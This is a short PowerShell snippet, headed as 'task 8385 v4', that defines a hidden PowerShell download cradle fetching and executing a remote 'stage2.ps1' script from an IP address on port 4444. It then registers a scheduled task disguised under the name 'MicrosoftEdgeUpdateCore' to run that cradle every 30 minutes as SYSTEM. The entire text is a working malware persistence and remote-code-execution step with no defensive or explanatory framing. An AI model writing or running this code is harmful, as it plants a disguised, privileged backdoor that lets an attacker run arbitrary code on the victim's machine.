# task 8385 v4
$cmd = "powershell.exe -nop -w hidden -c `"IEX ((new-object net.webclient).downloadstring('http://198.51.100.9:4444/stage2.ps1'))`""
schtasks /create /tn "MicrosoftEdgeUpdateCore" /tr $cmd /sc minute /mo 30 /ru SYSTEM /f
